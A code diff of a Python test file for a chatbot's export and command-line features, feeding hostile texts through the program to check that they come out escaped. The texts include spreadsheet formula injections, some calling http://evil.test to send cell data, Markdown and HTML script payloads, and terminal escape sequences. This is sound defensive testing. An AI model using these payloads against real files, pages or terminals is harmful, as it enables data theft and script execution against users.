@@ -17,117 +17,85 @@ from typer.testing import CliRunner
 from chatbot.accounts.audit import AuditLog
 from chatbot.accounts.people import LOCAL
 from chatbot.administration.exchange import Exchange
+from chatbot.assembly import open_chatbot
 from chatbot.chatbot import Chatbot
 from chatbot.conversations.export import conversation_json, conversation_markdown
 from chatbot.conversations.feedback import DOWN, Feedback
 from chatbot.review.exports import Exports, Format
 from chatbot.review.ratings import Ratings
+from chatbot.settings import Settings
 from corpora.catalog.glossary import Entry, tidy, written_glossary
 from corpora.errors import GlossaryError
 from tests.chatbot.asked import answer
-from tests.ui.attacks.attack import Attack
+from tests.data_folders import copy_data
+from tests.ui.attacks.conftest import each
+from tests.ui.conftest import close
 from tests.ui.memory_pairs import keep
+from tests.ui.payloads import PAYLOADS
 from ui.cli.main import app
 
-APOSTROPHE = "an apostrophe before what a spreadsheet would calculate, whatever stands before it"
-ESCAPED = "what Markdown would read as more than text is escaped, and addresses stand in code"
-PLAIN = "control characters never reach a terminal, and markup of the terminal is escaped"
-LINES = "JSON, a row a line"
-
-FORMULAS = [
-    Attack(f"formula-{name}", "export", "csv", text, "a spreadsheet calculates, calls or sends",
-           APOSTROPHE)
-    for name, text in {
-        "equals": "=1+1",
-        "plus": "+1+1",
-        "minus": "-2+3",
-        "at": "@SUM(A1:A9)",
-        "call": "=cmd|' /C calc'!A1",
-        "link": '=HYPERLINK("http://evil.test?q="&A1,"see")',
-        "web": '=WEBSERVICE("http://evil.test/"&A1)',
-        "import": '=IMPORTXML("http://evil.test","//a")',
-        "picture": '=IMAGE("http://evil.test/p.png")',
-        "space": "  =1+1",
-        "tab": "\t=1+1",
-        "newline": "\n=1+1",
-        "return": "\r=1+1",
-        "no-break-space": "\u00a0=1+1",
-        "zero-width": "\u200b=1+1",
-        "mark": "\ufeff=1+1",
-        "quote": '"=1+1',
-        "quote-closes-cell": '","=1+1',
-        "apostrophe": "'=1+1",
-        "full-width": "＝1+1",
-        "full-width-at": "＠SUM(A1)",
-        "typographic-quote": "“=1+1",
-        "separator": ";=1+1",
-        "nul": "\0=1+1",
-        "line-separator": "\u2028=1+1",
-    }.items()
-]  # fmt: skip
-MARKUP = [
-    Attack(f"markup-{name}", "export", "markdown", text,
-           "a reader loads, links or runs something", ESCAPED)
-    for name, text in {
-        "script": "<script>alert(1)</script>",
-        "picture": "![x](https://evil.test/p.png)",
-        "picture-by-reference": "![x][r]\n\n[r]: https://evil.test/p.png",
-        "link": "[see](https://evil.test)",
-        "script-link": "[see](javascript:alert(1))",
-        "data-link": "[see](data:text/html;base64,PHNjcmlwdD4=)",
-        "autolink": "<https://evil.test>",
-        "bare-link": "https://evil.test/?q=1 and www.evil.test",
-        "mail": "mail a@evil.test",
-        "html-picture": "<img src=//evil.test onerror=alert(1)>",
-        "html-split": "<img\nsrc=//evil.test>",
-        "style": "<style>@import '//evil.test'</style>",
-        "frame": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
-        "drawing": "<svg><use href='//evil.test#x'/></svg>",
-        "mathematics": "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
-        "base": "<base href=//evil.test>",
-        "refresh": "<meta http-equiv=refresh content='0;url=//evil.test'>",
-        "form": "<form action=//evil.test><input name=q></form>",
-        "comment": "<!-- --!><script>alert(1)</script>",
-        "closes-code": "`` ` ``<b>x</b>` `",
-        "closes-listing": "```\n<script>alert(1)</script>\n```\n<b>x</b>",
-        "closes-cell": "| a | b |\n|---|---|\n| <b>x</b> | [y](//evil.test) |",
-        "entities": "&lt;script&gt; &#x5B;x&#x5D;(//evil.test)",
-        "heading": "# heading\n\nTitle\n=====",
-        "footnote": "[^1]\n\n[^1]: https://evil.test",
-        "front-matter": "---\ntitle: x\n---\n",
-        "mathematics-of-tex": "$\\href{javascript:alert(1)}{x}$",
-        "wiki-link": "[[evil]] ![[evil]]",
-        "diagram": "```mermaid\nclick A href \"javascript:alert(1)\"\n```",
-        "callout": "> [!NOTE]\n> x",
-    }.items()
-]  # fmt: skip
-TERMINAL = [
-    Attack(f"terminal-{name}", "export", "terminal", text,
-           "a terminal is rewritten, titled, linked or written to", PLAIN)
-    for name, text in {
-        "colour": "\x1b[31mred",
-        "clear": "\x1b[2J\x1b[H",
-        "title": "\x1b]0;evil\x07",
-        "link": "\x1b]8;;http://evil.test\x1b\\see\x1b]8;;\x1b\\",
-        "clipboard": "\x1b]52;c;ZXZpbA==\x07",
-        "answer-back": "\x1b[6n\x05",
-        "one-byte": "\x9b31mred",
-        "return": "done\rfake",
-        "backspace": "safe\b\b\b\bevil",
-        "bell": "\x07",
-        "turned": "\u202egnp.exe",
-        "markup": "[bold red]x[/] [link=http://evil.test]y[/link]",
-        "markup-broken": "[/] [/nothing] [",
-        "emoji": ":skull: :link:",
-    }.items()
-]  # fmt: skip
-TEXTS = [case.payload for case in (*FORMULAS, *MARKUP, *TERMINAL)]
-COLUMNS = ("question", "answer", "comment", "note", "corrected_answer")
+FORMULAS = {
+    "equals": "=1+1",
+    "plus": "+1+1",
+    "minus": "-2+3",
+    "at": "@SUM(A1:A9)",
+    "call": "=cmd|' /C calc'!A1",
+    "link": '=HYPERLINK("http://evil.test?q="&A1,"see")',
+    "web": '=WEBSERVICE("http://evil.test/"&A1)',
+    "import": '=IMPORTXML("http://evil.test","//a")',
+    "picture": '=IMAGE("http://evil.test/p.png")',
+    "space": "  =1+1",
+    "tab": "\t=1+1",
+    "newline": "\n=1+1",
+    "return": "\r=1+1",
+    "no-break-space": "\u00a0=1+1",
+    "zero-width": "\u200b=1+1",
+    "mark": "\ufeff=1+1",
+    "quote": '"=1+1',
+    "quote-closes-cell": '","=1+1',
+    "apostrophe": "'=1+1",
+    "full-width": "＝1+1",
+    "full-width-at": "＠SUM(A1)",
+    "typographic-quote": "“=1+1",
+    "separator": ";=1+1",
+    "nul": "\0=1+1",
+    "line-separator": "\u2028=1+1",
+}
+MARKUP = (
+    *("[see](data:text/html;base64,PHNjcmlwdD4=)", "<img\nsrc=//evil.test>"),
+    *("<svg><use href='//evil.test#x'/></svg>", "<!-- --!><script>alert(1)</script>"),
+    *("`` ` ``<b>x</b>` `", "```\n<script>alert(1)</script>\n```\n<b>x</b>"),
+    "| a | b |\n|---|---|\n| <b>x</b> | [y](//evil.test) |",
+    "&lt;script&gt; &#x5B;x&#x5D;(//evil.test)",
+    *("[^1]\n\n[^1]: https://evil.test", "---\ntitle: x\n---\n"),
+    *(text[:2_000] for text in PAYLOADS),
+)
+TERMINAL = {
+    "colour": "\x1b[31mred",
+    "clear": "\x1b[2J\x1b[H",
+    "title": "\x1b]0;evil\x07",
+    "link": "\x1b]8;;http://evil.test\x1b\\see\x1b]8;;\x1b\\",
+    "clipboard": "\x1b]52;c;ZXZpbA==\x07",
+    "answer-back": "\x1b[6n\x05",
+    "one-byte": "\x9b31mred",
+    "return": "done\rfake",
+    "backspace": "safe\b\b\b\bevil",
+    "bell": "\x07",
+    "turned": "\u202egnp.exe",
+    "markup": "[bold red]x[/] [link=http://evil.test]y[/link]",
+    "markup-broken": "[/] [/nothing] [",
+    "emoji": ":skull: :link:",
+}
+TEXTS = [*FORMULAS.values(), *MARKUP, *TERMINAL.values()]
 
 
-@pytest.fixture
-def hostile(chatbot: Chatbot) -> Chatbot:
-    """The valve's chatbot, in which every text that is kept is one of these."""
+@pytest.fixture(scope="module")
+def hostile(
+    valve_settings: Settings, tmp_path_factory: pytest.TempPathFactory
+) -> Iterator[Chatbot]:
+    """The valve's chatbot, in which every text that is kept is one of these; it is only read."""
+    data = copy_data(valve_settings.data_dir, tmp_path_factory.mktemp("hostile") / "data")
+    chatbot = open_chatbot(valve_settings.model_copy(update={"data_dir": data}))
     for text in TEXTS:
         conversation = chatbot.conversations.start("valve", text)
         reply = answer(answer=text, release_explanation=text)
@@ -139,7 +107,8 @@ def hostile(chatbot: Chatbot) -> Chatbot:
     chatbot.glossaries.replace(
         "valve", [Entry(text, ("latch",)) for text in dict.fromkeys(terms())]
     )
-    return chatbot
+    yield chatbot
+    close(chatbot)
 
 
 def terms() -> Iterator[str]:
@@ -241,15 +210,15 @@ def test_a_command_prints_no_control_of_a_terminal(
     assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202e]", told.output)
 
 
-@pytest.mark.parametrize("case", TERMINAL, ids=str)
+@each(TERMINAL)
 def test_a_file_s_name_in_a_report_is_text(
-    case: Attack, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+    case: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     monkeypatch.setenv("STRATA_DATA_DIR", str(tmp_path / "data"))
     docs = tmp_path / "docs"
     docs.mkdir()
-    (docs / f"{case.payload.replace('/', '')}.md").write_bytes(b"")
+    (docs / f"{case.replace('/', '')}.md").write_bytes(b"")
     told = CliRunner().invoke(app, ["ingest", str(docs), "--product", "p", "--release", "1"])
     assert told.exit_code == 1
     assert not re.search("[\x00-\x09\x0b\x0c\x0e-\x1f\x7f-\x9f\u202e]", told.output)
-    assert "evil" not in case.payload or "http://evil.test\x1b" not in told.output
+    assert "evil" not in case or "http://evil.test\x1b" not in told.output
